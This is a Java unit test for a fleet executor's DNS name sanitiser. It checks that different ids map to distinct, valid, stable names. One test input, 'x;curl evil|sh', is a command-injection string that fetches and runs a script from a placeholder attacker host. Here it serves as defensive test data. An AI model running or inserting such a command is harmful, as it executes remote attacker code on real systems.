package dev.arcfleet.executor.route;

import static org.assertj.core.api.Assertions.assertThat;

import dev.arcfleet.executor.route.arck8s.ArcK8sSteps;
import dev.arcfleet.executor.route.companionvm.CompanionVmSteps;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** Names derived from fleet ids: one id, one name, and never one name for two ids. */
class NamesTest {
    static final String DNS = "[a-z0-9]([a-z0-9-]*[a-z0-9])?";

    @Test
    void idsThatMapOrShortenAlikeGetDistinctNames() {
        List<String> ids = List.of(
                "a:b",
                "a/b",
                "a-b",
                "a.b",
                "a_b",
                "A-B",
                "a--b",
                "-a-b",
                "a-b-",
                "a b",
                "ghent-line3/worker-1",
                "ghent-line3:worker-1",
                "ghent/line3-worker-1",
                "plant-" + "x".repeat(80) + "-1",
                "plant-" + "x".repeat(80) + "-2",
                "",
                "---",
                "Ω");
        for (int max : List.of(63, 40, 24, 15)) {
            Map<String, String> seen = new HashMap<>();
            for (String id : ids) {
                String name = Names.dns(id, max);
                assertThat(name).as("%s at %d", id, max).matches(DNS).hasSizeLessThanOrEqualTo(max);
                String before = seen.put(name, id);
                assertThat(before)
                        .as("'%s' and '%s' both named %s at %d", before, id, name, max)
                        .isNull();
            }
        }
        assertThat(CompanionVmSteps.vmName("a:b")).isNotEqualTo(CompanionVmSteps.vmName("a/b"));
        assertThat(ArcK8sSteps.connectedClusterName("Ghent")).isNotEqualTo(ArcK8sSteps.connectedClusterName("ghent"));
    }

    @Test
    void validShortIdsKeepTheirNameAndEveryNameIsStableAndIdempotent() {
        for (String id : List.of("ghent-line3", "adopted-edge", "storm-7", "x", "a1")) {
            assertThat(Names.dns(id, 63)).isEqualTo(id);
        }
        for (String id : List.of("ghent-line3/worker-1", "Ghent", "a".repeat(300), "a:b", "x;curl evil|sh")) {
            String name = Names.dns(id, 63);
            assertThat(Names.dns(id, 63)).isEqualTo(name);
            assertThat(Names.dns(name, 63)).isEqualTo(name);
            // the readable part is kept, the hash is the first 8 hex digits of the original id's SHA-256
            assertThat(name).matches(".*-[0-9a-f]{8}$");
        }
        assertThat(Names.dns("ghent-line3/worker-1", 63)).startsWith("ghent-line3-worker-1-");
        assertThat(Names.dns("a".repeat(300), 63)).hasSize(63).startsWith("a".repeat(54) + "-");
    }
}
